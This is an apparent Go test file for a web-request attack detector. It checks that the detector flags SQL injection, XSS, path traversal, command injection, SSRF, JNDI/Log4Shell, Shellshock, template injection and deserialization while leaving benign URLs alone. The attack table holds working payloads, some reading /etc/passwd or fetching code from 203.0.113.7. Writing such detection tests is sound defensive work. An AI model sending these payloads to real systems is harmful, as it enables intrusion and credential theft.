package signature

import (
	"strings"
	"testing"

	"gatewatch/internal/event"
)

func probe(t testing.TB) *Probe {
	t.Helper()
	p, err := NewProbe(7)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func target(s string) *event.Event {
	e := &event.Event{Method: "GET"}
	e.Path, e.Query, _ = strings.Cut(s, "?")
	return e
}

var attackTests = []struct {
	target string
	want   Family
}{
	{"/item?id=1%27%20or%20%271%27%3D%271", SQLi},
	{"/item?id=1+or+1=1", SQLi},
	{"/item?id=1)+AND+12=12+AND+JSON_DEPTH(%27%7B%7D%27)!=2521", SQLi},
	{"/item?id=1%22+or+%22a%22=%22a", SQLi},
	{"/item?id=1);if(78=78)+select+1", SQLi},
	{"/item?id=-1+union+select+1,2,3--", SQLi},
	{"/item?id=-1/**/uNiOn/**/sElEcT/**/1,2", SQLi},
	{"/item?id=-1/*!50000union*//*!50000select*/1,2", SQLi},
	{"/item?id=1%2527%2520union%2520select%25201", SQLi},
	{"/item?id=1;waitfor+delay+'0:0:5'--", SQLi},
	{"/item?id=1'+and+sleep(5)%23", SQLi},
	{"/item/1'%20or%20'1'='1", SQLi},
	{"/s?q=<script>alert(1)</script>", XSS},
	{"/s?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", XSS},
	{"/s?q=%253Csvg/onload=alert(1)%253E", XSS},
	{"/s?q=%26lt%3Bscript%26gt%3Balert(1)", XSS},
	{"/s?q=\\u003cscript\\u003ealert(1)", XSS},
	{"/s?q=javascript%3Aalert(document.cookie)", XSS},
	{"/s?<script>=1", XSS},
	{"/get?file=../../../../etc/passwd", Traversal},
	{"/get?file=..%2f..%2f..%2fetc%2fpasswd", Traversal},
	{"/get?file=/etc/passwd", Traversal},
	{"/get?file=..%c0%af..%c0%afetc/hosts", Traversal},
	{"/static/%2e%2e/%2e%2e/etc/passwd", Traversal},
	{"/%252e%252e%252ffoo", Traversal},
	{"/cgi-bin/.%2e/.%2e/bin/sh", Traversal},
	{"/a/..;/manager/html", Traversal},
	{"/get?file=..\\..\\windows\\win.ini", Traversal},
	{"/get?file=php://filter/convert.base64-encode/resource=index", Traversal},
	{"/get?file=a.txt%00.png&x=../..", Traversal},
	{"/ping?host=1.1.1.1;cat%20/etc/passwd", Command},
	{"/ping?host=1.1.1.1|whoami", Command},
	{"/ping?host=$(id)", Command},
	{"/ping?host=`id`", Command},
	{"/ping?host=1.1.1.1%26%26id", Command},
	{"/ping?host=1.1.1.1%0aid", Command},
	{"/x?cmd=/bin/sh+-c+id", Command},
	{"/x?c=wget+http://203.0.113.7/a.sh", Command},
	{"/fetch?url=http://169.254.169.254/latest/meta-data/", SSRF},
	{"/fetch?url=http://metadata.google.internal/", SSRF},
	{"/fetch?url=http://2130706433/", SSRF},
	{"/fetch?url=http://0x7f.0.0.1/", SSRF},
	{"/fetch?url=http://0177.0.0.1/", SSRF},
	{"/fetch?url=http://[::ffff:169.254.169.254]/", SSRF},
	{"/fetch?url=gopher://127.0.0.1:6379/_INFO", SSRF},
	{"/x?a=${jndi:ldap://203.0.113.7/a}", JNDI},
	{"/x?a=${${lower:j}ndi:ldap://203.0.113.7/a}", JNDI},
	{"/x?a=%24%7B%24%7B::-j%7Dndi:rmi://x/a%7D", JNDI},
	{"/$%7Bjndi:dns://x%7D", JNDI},
	{"/x?name={{7*7}}", Template},
	{"/x?name=${7*7}", Template},
	{"/x?name=<%25=+7*7+%25>", Template},
	{"/x?name={{''.__class__.__mro__}}", Template},
	{"/?class.module.classLoader.resources.context=%25{x}i", Template},
	{"/x?xml=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+\"file:///etc/passwd\">]>", XXE},
	{"/u?user=*)(uid=*))(|(uid=*", LDAP},
	{"/login?user[$ne]=1&pass[$ne]=1", NoSQL},
	{"/login?user[$regex]=.*", NoSQL},
	{"/x?redir=/%0d%0aSet-Cookie:%20a=b", CRLF},
	{"/x?a=<?php+system('id');", Code},
	{"/x?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", Code},
	{"/i.php?page=http://203.0.113.7/x.txt?", Code},
	{"/x?data=O:8:%22stdClass%22:0:{}", Deserialization},
	{"/x?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABA/", Deserialization},
}

func TestProbesAlarm(t *testing.T) {
	p := probe(t)
	for _, tt := range attackTests {
		v := p.Inspect(target(tt.target))
		if !v.Alarming() || v.Families&tt.want == 0 {
			t.Errorf("Inspect(%q) = %v, score %d; want an alarm of %v", tt.target, v.Families, v.Score, tt.want)
		}
	}
}

func TestProbesInHeaders(t *testing.T) {
	p := probe(t)
	tests := []struct {
		name string
		e    event.Event
		want Family
	}{
		{"shellshock", event.Event{Path: "/", UserAgent: "() { :;}; /bin/bash -c 'id'"}, Shellshock},
		{"jndi", event.Event{Path: "/", UserAgent: "${jndi:ldap://x/a}"}, JNDI},
		{"sqli", event.Event{Path: "/", UserAgent: "Mozilla' or '1'='1"}, SQLi},
		{"xss in referrer", event.Event{Path: "/", Referrer: "http://x/<script>alert(1)</script>"}, XSS},
		{"tls to a plain port", event.Event{RequestLine: `\x16\x03\x01\x02\x00\x01`}, Protocol},
		{"rdp", event.Event{RequestLine: "\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=user1"}, Protocol},
	}
	for _, tt := range tests {
		v := p.Inspect(&tt.e)
		if v.Families&tt.want == 0 || tt.want != Protocol && !v.Alarming() {
			t.Errorf("%s: %v, score %d; want %v", tt.name, v.Families, v.Score, tt.want)
		}
		if tt.want == Protocol && v.Alarming() {
			t.Errorf("%s: bytes of another protocol alone are an alarm, score %d", tt.name, v.Score)
		}
	}
}

func TestBenignIsNoAlarm(t *testing.T) {
	p := probe(t)
	for _, s := range []string{
		"/", "/index.html", "/search?q=red+shoes&page=2",
		"/search?q=O'Brien", "/search?q=O%27Brien", "/people/o'connor", "/search?q=l%27%C3%A9cole+d%27%C3%A9t%C3%A9", "/search?q=D'Arcy+or+O'Neill",
		"/search?q=select+a+chair+from+our+union", "/search?q=union+was+a+great+select", "/search?q=drop+the+table+and+run",
		"/search?q=it%27s+50%25+off+%26+more", "/search?q=rock+%27n%27+roll", "/search?q=%22red+shoes%22+or+%22blue+shoes%22",
		"/login?redirect=https://example.org/", "/login?next=%2Faccount%2Forders%3Fpage%3D2", "/share?url=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc%26d%3De",
		"/dev?callback=http://localhost:3000/cb",
		"/t?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "/img?data=aGVsbG8gd29ybGQ%3D", "/x?v=dGVzdA==",
		"/graphql?query={user(id:1){name,orders(first:10){total}}}", "/graphql?query=query+Q($id:ID!){user(id:$id){name}}&variables={%22id%22:%221%22}",
		"/items?filter={%22price%22:{%22$gt%22:5},%22name%22:%22O%27Brien%22}", "/items?filter[name]=x&sort[]=-date", "/items?ids[]=1&ids[]=2",
		"/log?since=2026-05-01T10:00:00+02:00&until=2026-05-02T10:00:00%2B02:00",
		"/wp-admin/post.php?post=1&action=edit", "/wp-admin/admin-ajax.php?action=heartbeat", "/wp-admin/load-scripts.php?c=1&load[]=jquery-core,jquery-migrate",
		"/math?expr=a<b", "/math?expr=(1%2B2)*3", "/math?expr=x%5E2+%2B+y%5E2+%3D+1", "/search?q=C%2B%2B+or+C%23",
		"/md?text=**bold**+and+*italic*+%5Blink%5D(https://example.org)+%60code%60", "/md?text=%23+Title%0A%0A-+one%0A-+two%0A",
		"/search?q=who+is+the+cat+in+the+hat", "/search?q=fish+%26+chips", "/search?q=tom+%7C+jerry", "/search?q=java+lang+courses",
		"/search?q=how+to+exec+a+function()", "/price?range=10-20&currency=%E2%82%AC", "/u?email=a.b%2Bc@example.org", "/c?color=%23ff00aa",
		"/files/report%20(final)%20v2.pdf", "/wiki/Caf%C3%A9_(disambiguation)", "/wiki/AC/DC", "/caf%C3%A9/men%C3%BC", "/maps/@53.34,-6.26,15z",
		"/a?path=/images/logo.png", "/a?returnUrl=../orders", "/a?tpl={{name}}", "/css?family=Open+Sans:400,700|Roboto:300,400",
		"/a?utm_source=news&utm_campaign=50%25_off!&gclid=Cj0KCQ", "/a?_=1716912345&callback=jQuery3510_171691", "/t?x=a;b;c", "/a?b=c&amp;d=e",
		"/range?time=12:30&tz=Europe/Dublin", "/a?v=1.2.3...4", "/search?q=wait...+what%3F", "/a?s=%E6%9D%B1%E4%BA%AC",
	} {
		if v := p.Inspect(target(s)); v.Alarming() {
			t.Errorf("Inspect(%q) = %v, score %d; want no alarm", s, v.Families, v.Score)
		}
	}
	browser := &event.Event{
		Method: "GET", Path: "/", UserAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
		Referrer: "https://www.google.com/search?q=o%27brien+%26+sons",
	}
	if v := p.Inspect(browser); v != (Verdict{}) {
		t.Errorf("a browser = %+v", v)
	}
}

// What was seen before must not matter, nor what lies behind the bounds.
func TestInspectRemembersNothing(t *testing.T) {
	p := probe(t)
	attack := target("/x?q=<script>alert(1)</script>&id=1'+or+'1'='1")
	first := p.Inspect(attack)
	for range 3 {
		p.Inspect(target("/y?file=../../etc/passwd"))
		if got := p.Inspect(attack); got != first {
			t.Fatalf("again %+v, first %+v", got, first)
		}
	}
	if first.Score > 2*uint16(families)*Alarm {
		t.Errorf("score %d", first.Score)
	}
}

// worstUnits are texts that, repeated, make naive code quadratic or worse.
var worstUnits = []string{
	"'", "<", "%25", "../", "&a='", "{{", "/*", "/*a", "${", "`", "(", "//1", "\\x", "&#x", "%0a", "|", ";id ", "%0aid", "--", "<a a=", "&x=%27--", "union select ",
}

func BenchmarkInspectWorst(b *testing.B) {
	p := probe(b)
	for _, unit := range worstUnits {
		b.Run(unit, func(b *testing.B) {
			e := target("/x?q=" + strings.Repeat(unit, maxField/len(unit)))
			e.Path, e.UserAgent, e.Referrer = e.Query, e.Query, e.Query
			for b.Loop() {
				p.Inspect(e)
			}
		})
	}
}

func TestInspectDoesNotAllocate(t *testing.T) {
	p := probe(t)
	events := []*event.Event{
		target("/api/v1/orders/42?page=2&sort=price"), target("/search?q=caf%C3%A9+and+cake"), target("/a%20b?next=%2Fhome"),
	}
	if n := testing.AllocsPerRun(100, func() {
		for _, e := range events {
			p.Inspect(e)
		}
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func FuzzInspect(f *testing.F) {
	f.Add("/a%00b", "q=1'+or+1=1--&x=%u0027%26%23x27;", "() { :;};", "\x16\x03")
	f.Add("/%c0%ae/..;/", "u=http://0x7f.1/&v=//[::1&w=O:+8:\"", "${jndi", "")
	f.Add("/", "\xef\xbc\x9c\xe0\x80\xaf\xc0&=&a&&b=\\u00", "<", "GET")
	p := probe(f)
	f.Fuzz(func(t *testing.T, path, query, agent, line string) {
		e := &event.Event{Path: path, Query: query, UserAgent: agent, Referrer: agent, RequestLine: line}
		if a, b := p.Inspect(e), p.Inspect(e); a != b || (a.Score > 0) != (a.Families != 0) {
			t.Errorf("%+v, then %+v", a, b)
		}
	})
}

func BenchmarkInspect(b *testing.B) {
	p := probe(b)
	agent := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
	for _, bb := range []struct{ name, target string }{
		{"plain", "/api/v1/orders/12345/items"},
		{"query", "/list?page=2&sort=price&dir=asc"},
		{"words", "/search?q=red+shoes+and+socks"},
		{"encoded", "/login?next=%2Faccount%2Forders%3Fpage%3D2"},
		{"sqli", "/item?id=1%27%20or%20%271%27%3D%271"},
	} {
		b.Run(bb.name, func(b *testing.B) {
			e := target(bb.target)
			e.UserAgent, e.Referrer = agent, "https://example.org/shop/list"
			b.ReportAllocs()
			for b.Loop() {
				p.Inspect(e)
			}
		})
	}
}
